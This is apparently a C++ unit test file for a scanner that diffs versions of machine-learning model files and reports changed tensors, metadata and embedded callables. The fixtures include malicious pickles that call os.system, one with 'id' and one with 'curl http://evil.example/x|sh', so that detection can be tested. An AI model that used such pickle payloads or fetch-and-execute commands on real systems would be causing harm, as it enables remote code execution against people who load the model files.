// SPDX-License-Identifier: GPL-3.0-or-later
// Two versions of a model: what became of members, tensors and their numbers, words and callables; and that a file
// cannot make it work for ever.
#include "analyzers/engine/analyze.h"
#include "analyzers/formats/tensor_windows.h"
#include "analyzers/review/compare_models.h"
#include "analyzers/review/compare_parts.h"
#include "analyzers/review/model_figures.h"
#include "tests/unit/check.h"
#include "tests/unit/pickle_assembler.h"
#include "tests/unit/rules/made.h"

#include <bit>
#include <cmath>
#include <limits>
#include <utility>

using namespace cupel;
using review::ModelChange;
using review::ModelComparison;

namespace {

void add(Workspace& workspace, const std::string& path, std::string bytes)
{
    ScanOptions options;
    options.keepBytes = true;
    Budget budget;
    Artifact artifact;
    artifact.path = path;
    artifact.bytes = std::make_shared<const std::string>(std::move(bytes));
    workspace.analyses[path] = std::make_shared<const Analysis>(engine::analyze(std::move(artifact), options, budget));
}

Workspace one(const std::string& path, std::string bytes)
{
    Workspace out;
    out.roots = {path};
    add(out, path, std::move(bytes));
    return out;
}

ModelComparison compared(const Workspace& before, const Workspace& after)
{
    Budget budget;
    auto out = review::compareModels(review::compare(before, after), budget);
    CHECK(out.has_value());
    return out.value_or(ModelComparison{});
}

std::string safetensors(const std::string& header, const std::string& data)
{
    std::string out;
    for (unsigned i = 0; i < 8; ++i) {
        out += static_cast<char>((header.size() >> (8 * i)) & 0xFF);
    }
    return out + header + data;
}

std::string floats(const std::vector<float>& values)
{
    std::string out;
    for (const float value : values) {
        const auto bits = std::bit_cast<std::uint32_t>(value);
        for (unsigned i = 0; i < 4; ++i) {
            out += static_cast<char>((bits >> (8 * i)) & 0xFF);
        }
    }
    return out;
}

std::string pickleOf(const std::string& program)
{
    std::string problem;
    auto bytes = test::Assembler().assemble("PROTO 2\n" + program + "STOP\n", problem);
    CHECK_EQ(problem, "");
    return bytes;
}

// A state dict of one tensor "w" of `storage`.
std::string stateDict(const std::string& numbers, const std::string& more = "")
{
    return pickleOf(
        "EMPTY_DICT\nBINUNICODE 'w'\nGLOBAL torch._utils _rebuild_tensor_v2\nMARK\nMARK\nBINUNICODE 'storage'\n"
        "GLOBAL torch FloatStorage\nBINUNICODE '0'\nBINUNICODE 'cpu'\nBININT1 4\nTUPLE\nBINPERSID\nBININT1 0\n"
        + numbers + "NEWFALSE\nGLOBAL collections OrderedDict\nEMPTY_TUPLE\nREDUCE\nTUPLE\nREDUCE\nSETITEM\n" + more);
}

} // namespace

CUPEL_TEST(windowsGiveElementsInTheOrderOfTheirIndices)
{
    const std::string bytes = "abcdef"; // two rows of three, written column by column
    formats::TensorWindows columns(bytes, {2, 3}, {1, 2}, 1);
    CHECK(columns.valid());
    CHECK_EQ(std::string(columns.next(4)), "aceb");
    CHECK_EQ(std::string(columns.next(4)), "df");
    CHECK(columns.next(4).empty());
    CHECK(!formats::TensorWindows(bytes, {4, 2}, {}, 1).valid());
    CHECK(!formats::TensorWindows(bytes, {2, 3}, {1, 3}, 1).valid()); // reaches one element too far
    CHECK(!formats::TensorWindows(bytes, {2}, {~std::uint64_t{0}}, 1).valid());
    CHECK(!formats::TensorWindows(bytes, {2, 3}, {1}, 1).valid());
    CHECK(formats::TensorWindows({}, {0, ~std::uint64_t{0}}, {}, 8).valid());
}

CUPEL_TEST(numbersAreComparedOneByOne)
{
    const std::string head = R"({"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},)"
                             R"("q":{"dtype":"F32","shape":[1],"data_offsets":[16,20]}})";
    const auto nan = std::numeric_limits<float>::quiet_NaN();
    const auto out = compared(one("a.safetensors", safetensors(head, floats({1, 2, 3, nan, 9}))),
        one("b.safetensors", safetensors(head, floats({1, 2, -3, nan, 9}))));
    REQUIRE(out.tensors.size() == 1 && out.tensors[0].difference);
    CHECK_EQ(out.sameTensors.count, 1U);
    REQUIRE(out.complete && out.members.size() == 1 && out.members[0].bytes); // the file itself
    CHECK_EQ(out.members[0].name, "b.safetensors");
    CHECK_EQ(out.members[0].bytes->differing, 1U); // the sign
    CHECK_EQ(out.members[0].bytes->first, 8 + head.size() + 11);
    const auto& change = out.tensors[0];
    CHECK_EQ(change.name, "w");
    CHECK(change.kind == ModelChange::Changed && change.values);
    CHECK(change.difference->paired);
    CHECK_EQ(change.difference->changed, 1U); // the same NaN is no change
    CHECK_EQ(change.difference->largest, 6.0);
    CHECK_EQ(change.difference->before.mean, 2.0);
    CHECK_EQ(change.difference->after.least, -3.0);
    CHECK_EQ(change.difference->after.notNumbers, 1U);
    CHECK(change.before->sha256 != change.after->sha256);
    CHECK_EQ(change.after->sha256, toHex(sha256(floats({1, 2, -3, nan}))));
}

CUPEL_TEST(numbersOfBigEndianFilesAreRead)
{
    const auto turned = [](std::uint64_t value, unsigned width) {
        std::string out;
        for (unsigned i = width; i > 0; --i) {
            out += static_cast<char>(value >> (8 * (i - 1)) & 0xFF);
        }
        return out;
    };
    const auto gguf = [&turned](std::uint32_t bits) {
        auto out = "GGUF" + turned(3, 4) + turned(1, 8) + turned(0, 8) + turned(1, 8) + "w" + turned(1, 4)
            + turned(1, 8) + turned(0, 4) + turned(0, 8);
        out.resize((out.size() + 31) / 32 * 32);
        return out + turned(bits, 4) + std::string(28, '\0');
    };
    const auto out = compared(one("a.gguf", gguf(0x3F800000)), one("b.gguf", gguf(0x40000000)));
    REQUIRE(out.tensors.size() == 1 && out.tensors[0].difference);
    CHECK_EQ(out.tensors[0].difference->before.mean, 1.0);
    CHECK_EQ(out.tensors[0].difference->after.mean, 2.0);
    CHECK_EQ(out.tensors[0].difference->largest, 1.0);
}

CUPEL_TEST(formsAndTypesThatChangedAreTold)
{
    const auto file = [](const std::string& dtype, const std::string& shape, const std::string& data) {
        return safetensors(R"({"w":{"dtype":")" + dtype + R"(","shape":)" + shape + R"(,"data_offsets":[0,)"
                + std::to_string(data.size()) + "]}}",
            data);
    };
    const auto out = compared(one("a", file("F32", "[2]", floats({1, 2}))),
        one("b", file("BF16", "[2]", std::string("\x80\x3f\x00\x40", 4))));
    REQUIRE(out.tensors.size() == 1 && out.tensors[0].difference);
    CHECK(out.tensors[0].difference->paired);
    CHECK_EQ(out.tensors[0].difference->changed, 0U); // other bytes, the same numbers
    CHECK_EQ(out.tensors[0].after->dtype, "BF16");
    const auto shaped =
        compared(one("a", file("F32", "[2]", floats({1, 2}))), one("b", file("F32", "[1,2]", floats({1, 2}))));
    REQUIRE(shaped.tensors.size() == 1);
    CHECK(!shaped.tensors[0].values);
    CHECK(shaped.tensors[0].after->shape == std::vector<std::uint64_t>({1, 2}));
}

CUPEL_TEST(membersOfACheckpointAreFoundWhateverItsFolderIsCalled)
{
    const std::string plain = "BININT1 4\nTUPLE1\nBININT1 1\nTUPLE1\n";
    Workspace before = one("x/a.pt", std::string("PK\5\6", 4) + std::string(18, '\0'));
    Workspace after = one("y/b.pt", std::string("PK\5\6", 4) + std::string(18, '\0'));
    auto model = std::make_shared<ModelContent>();
    model->kind = "PyTorch checkpoint";
    for (auto* workspace : {&before, &after}) {
        auto& container = workspace->analyses.begin()->second;
        auto copy = std::make_shared<Analysis>(*container);
        copy->facts.model = model;
        container = copy;
    }
    add(before, "x/a.pt!a/data.pkl", stateDict(plain));
    add(before, "x/a.pt!a/data/0", floats({1, 2, 3, 4}));
    add(before, "x/a.pt!a/data/9", "old");
    add(after, "y/b.pt!b/data.pkl", stateDict(plain, "GLOBAL os system\nBINUNICODE 'id'\nTUPLE1\nREDUCE\nPOP\n"));
    add(after, "y/b.pt!b/data/0", floats({1, 2, 3, 8}));
    const auto out = compared(before, after);
    std::string members;
    for (const auto& change : out.members) {
        members += std::string(toString(change.kind)) + ' ' + change.name + ';';
    }
    CHECK_EQ(members, "changed data.pkl;changed data/0;removed data/9;");
    REQUIRE(out.tensors.size() == 1 && out.tensors[0].difference);
    CHECK_EQ(out.tensors[0].difference->largest, 4.0);
    REQUIRE(out.callables.size() == 1);
    CHECK_EQ(out.callables[0].name, "os.system");
    CHECK(out.callables[0].kind == ModelChange::Added);
    // The same tensor in another format.
    const auto converted = compared(before,
        one("c.safetensors",
            safetensors(R"({"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}})", floats({1, 2, 3, 4}))));
    CHECK_EQ(converted.sameTensors.count, 1U);
    CHECK(converted.tensors.empty());
}

// An expanded tensor is as large as it likes; its bytes are four.
CUPEL_TEST(noTensorIsComparedForEver)
{
    const std::string huge = "BININT 2000000000\nBININT 2000000000\nTUPLE2\nBININT1 0\nBININT1 0\nTUPLE2\n";
    Workspace before = one("m/data.pkl", stateDict(huge));
    Workspace after = one("m/data.pkl", stateDict(huge));
    add(before, "m/data/0", floats({1, 2, 3, 4}));
    add(after, "m/data/0", floats({1, 2, 3, 5}));
    for (auto* workspace : {&before, &after}) {
        workspace->roots = {"m"};
    }
    const auto out = compared(before, after);
    CHECK(!out.complete);
}

CUPEL_TEST(wordsAreComparedAndMasked)
{
    test::Letters letters;
    const auto secret = test::githubToken(letters);
    const auto file = [](const std::string& metadata) {
        return safetensors(
            R"({"__metadata__":{)" + metadata + R"(},"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}})", "x");
    };
    const auto out = compared(one("a", file(R"("gone":"1","kept":"2","chat":"{% if a %}\nx\n{% endif %}")")),
        one("b", file(R"("kept":"2","token":")" + secret + R"(","chat":"{% if a %}\ny\n{% endif %}")")));
    std::string seen;
    for (const auto& change : out.metadata) {
        seen += std::string(toString(change.kind)) + ' ' + change.key + ';';
        CHECK(change.after.find(secret) == std::string::npos);
    }
    CHECK_EQ(seen, "added token;changed chat;removed gone;");
    CHECK_EQ(out.sameMetadata.count, 1U);
    REQUIRE(out.templates.size() == 1);
    using Kind = fixes::PreviewRow::Kind;
    CHECK(std::any_of(out.templates[0].rows.begin(), out.templates[0].rows.end(), [](const fixes::PreviewRow& row) {
        return row.kind == Kind::Changed && row.before.text == "x" && row.after.text == "y";
    }));
}

// One tensor of F32 per name, two numbers each.
std::string named(const std::vector<std::pair<std::string, std::vector<float>>>& tensors)
{
    std::string header;
    std::vector<float> all;
    for (const auto& [name, values] : tensors) {
        const auto start = 4 * all.size();
        all.insert(all.end(), values.begin(), values.end());
        header += (header.empty() ? "{" : ",") + ("\"" + name) + R"(":{"dtype":"F32","shape":[)"
            + std::to_string(values.size()) + R"(],"data_offsets":[)" + std::to_string(start) + ','
            + std::to_string(4 * all.size()) + "]}";
    }
    return safetensors(header + '}', floats(all));
}

std::string changesOf(const ModelComparison& out)
{
    std::string seen;
    for (const auto& change : out.tensors) {
        seen += std::string(toString(change.kind)) + ' ' + change.name + (change.was.empty() ? "" : " was ")
            + change.was + ';';
    }
    return seen;
}

CUPEL_TEST(aTensorWithAnotherNameAndTheSameBytesWasRenamed)
{
    const auto out = compared(
        one("a.safetensors", named({{"a", {1, 2}}, {"b", {0, 0}}, {"c", {0, 0}}, {"y", {5, 6}}, {"same", {3, 3}}})),
        one("b.safetensors", named({{"x", {1, 2}}, {"b2", {0, 0}}, {"c2", {0, 0}}, {"z", {5, 7}}, {"same", {3, 3}}})));
    CHECK_EQ(changesOf(out), "renamed b2 was b;renamed c2 was c;renamed x was a;added z;removed y;");
    CHECK_EQ(out.sameTensors.count, 1U);
    for (const auto& change : out.tensors) {
        if (change.kind == ModelChange::Renamed) {
            CHECK(!change.values && !change.difference);
            CHECK_EQ(change.before->sha256, change.after->sha256);
            CHECK_EQ(change.after->sha256.size(), 64U);
        }
    }
}

// As many bytes, but three of the same on one side and two on the other; or of another shape.
CUPEL_TEST(whichTensorBecameWhichIsNotGuessed)
{
    CHECK_EQ(changesOf(compared(one("a.safetensors", named({{"a", {0, 0}}, {"b", {0, 0}}, {"c", {0, 0}}})),
                 one("b.safetensors", named({{"x", {0, 0}}, {"y", {0, 0}}})))),
        "added x;added y;removed a;removed b;removed c;");
    CHECK_EQ(changesOf(compared(one("a.safetensors", named({{"a", {0, 0, 0}}})),
                 one("b.safetensors", named({{"x", {0, 0}}, {"y", {0}}})))),
        "added x;added y;removed a;");
}

CUPEL_TEST(figuresAreTheSameForWindowAndCommandLine)
{
    CHECK_EQ(review::shareFigure(1, 10), "10 %");
    CHECK_EQ(review::shareFigure(1, 4'000'000), "2.5e-05 %"); // not none
    CHECK_EQ(review::shareFigure(0, 0), "0 %");
    CHECK_EQ(review::shapeFigure({3, 4}), "3 \u00d7 4");
    const auto out = compared(
        one("a.safetensors", named({{"w", {1, 2, 3, 6}}})), one("b.safetensors", named({{"w", {1, 2, -3, 6}}})));
    REQUIRE(out.tensors.size() == 1);
    std::string seen;
    for (const auto& one : review::tensorFigures(out.tensors[0])) {
        seen += one.what == review::TensorFigure::What::Digest ? "" : one.before + '>' + one.after + ';';
    }
    CHECK_EQ(seen, "F32>F32;4>4;4>4;1>-3;6>6;3>1.5;");
    CHECK_EQ(review::tallyOf(out.tensors).changed, 1U);
    CHECK_EQ(review::tallyOf(out.tensors).total(), 1U);
}

// What the window shows side by side.
CUPEL_TEST(aModelIsListedLineByLine)
{
    const auto file = [](const std::string& name, const std::string& data) {
        return safetensors(
            R"({"__metadata__":{"by":")" + name + R"("},"w":{"dtype":"U8","shape":[2,1],"data_offsets":[0,2]}})", data);
    };
    test::Letters letters;
    const auto secret = test::githubToken(letters);
    const auto files = review::compare(one("a", file("one", "ab")), one("b", file(secret, "ac")));
    REQUIRE(files.size() == 1);
    Budget budget;
    const auto parts = review::compareParts(files[0], budget);
    REQUIRE(parts.size() == 1 && parts[0].rows.size() == 3);
    const auto& rows = parts[0].rows;
    CHECK(rows[0].kind == fixes::PreviewRow::Kind::Same);
    CHECK_EQ(rows[1].before.text, "by = one");
    CHECK(rows[1].after.text.starts_with("by = ") && rows[1].after.text.find(secret) == std::string::npos);
    CHECK(rows[2].before.text.starts_with("w  U8  2 \u00d7 1  #") && rows[2].before.text != rows[2].after.text);
}

CUPEL_TEST(whatIsNoModelIsNotCompared)
{
    Budget budget;
    CHECK(!review::compareModels(review::compare(one("a.py", "x = 1\n"), one("a.py", "x = 2\n")), budget));
}

// A cause that stays, with another command: a changed finding, and a line of the program.
CUPEL_TEST(whatIsCalledIsComparedWithWhat)
{
    const auto calls = [](const std::string& command) {
        return pickleOf("GLOBAL os system\nSHORT_BINUNICODE " + command + "\nTUPLE1\nREDUCE\n");
    };
    const auto before = one("a.pkl", calls("'echo hello'"));
    const auto after = one("b.pkl", calls("'curl http://evil.example/x|sh'"));
    const auto files = review::compare(before, after);
    REQUIRE(files.size() == 1);
    CHECK_EQ(files[0].count(review::FindingChange::Kind::Changed), 1U);
    CHECK_EQ(files[0].count(review::FindingChange::Kind::Same), 0U);
    REQUIRE(!files[0].findings.empty());
    const auto [old, now] = review::changedExcerpts(files[0].findings.front());
    CHECK(old.find("echo hello") != std::string::npos && now.find("curl") != std::string::npos);
    const auto out = compared(before, after);
    REQUIRE(out.programs.size() == 1);
    const auto lines = review::linesOf(out.programs[0]);
    CHECK(lines.removed == 1 && lines.added == 1);
    CHECK(out.callables.empty());
    const auto same = compared(before, one("c.pkl", calls("'echo hello'")));
    CHECK(same.programs.empty() && same.samePrograms.count == 1 && same.members.empty());
}

// One byte of a constant that no list shows: the file is a row, with how many bytes differ and where.
CUPEL_TEST(filesThatDifferNeverReadTheSame)
{
    const auto constant = [](char last) {
        return pickleOf("SHORT_BINUNICODE '" + std::string(150, 'x') + last + "'\n");
    };
    const auto out = compared(one("a.pkl", constant('1')), one("a.pkl", constant('2')));
    REQUIRE(out.members.size() == 1 && out.members[0].bytes);
    CHECK_EQ(out.members[0].bytes->differing, 1U);
    CHECK_EQ(out.members[0].bytes->first, 2 + 2 + 150U);
    // More bytes at the end are told where the shorter file ends.
    const auto longer = compared(one("a.pkl", constant('1')), one("a.pkl", constant('1') + "more"));
    REQUIRE(longer.members.size() == 1 && longer.members[0].bytes);
    CHECK_EQ(longer.members[0].bytes->differing, 4U);
    CHECK_EQ(longer.members[0].bytes->first, constant('1').size());
}

// Whatever byte of a real model is another one, some row says so.
CUPEL_TEST(everyByteOfRealModelsCounts)
{
    const std::string frameworks = CUPEL_SOURCE_DIR "/tests/data/frameworks/";
    std::size_t files = 0;
    for (const auto* name : {"gguf-0.19.0/llama.gguf", "lightgbm-4.7.0/model.txt", "xgboost-3.0.5/model.ubj"}) {
        const auto bytes = test::readFile(frameworks + name).value_or("");
        REQUIRE(!bytes.empty());
        ++files;
        for (std::size_t at = bytes.size() / 4; at < bytes.size(); at += bytes.size() / 4) {
            auto other = bytes;
            other[at] = static_cast<char>(other[at] ^ 1);
            const auto out = compared(one(name, bytes), one(name, other));
            REQUIRE(out.members.size() == 1 && out.members[0].bytes);
            CHECK_EQ(out.members[0].bytes->first, at);
        }
    }
    CHECK_EQ(files, 3U);
}

CUPEL_TEST(treesAreComparedOneByOne)
{
    const auto model = [](const std::string& value) {
        return "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nmax_feature_idx=0\nfeature_names=a\n\nTree=0\n"
               "num_leaves=2\nnum_cat=0\nsplit_feature=0\nthreshold=0.5\nleft_child=-1\nright_child=-2\nleaf_value=1 "
               "2\n\n"
               "Tree=1\nnum_leaves=2\nnum_cat=0\nsplit_feature=0\nthreshold=0.5\nleft_child=-1\nright_child=-2\nleaf_"
               "value=1 "
            + value + "\n\nend of trees\n";
    };
    const auto out = compared(one("a.txt", model("2")), one("b.txt", model("3")));
    REQUIRE(out.metadata.size() == 1);
    CHECK_EQ(out.metadata[0].key, "trees.1");
    CHECK(out.metadata[0].kind == ModelChange::Changed && out.metadata[0].before != out.metadata[0].after);
}
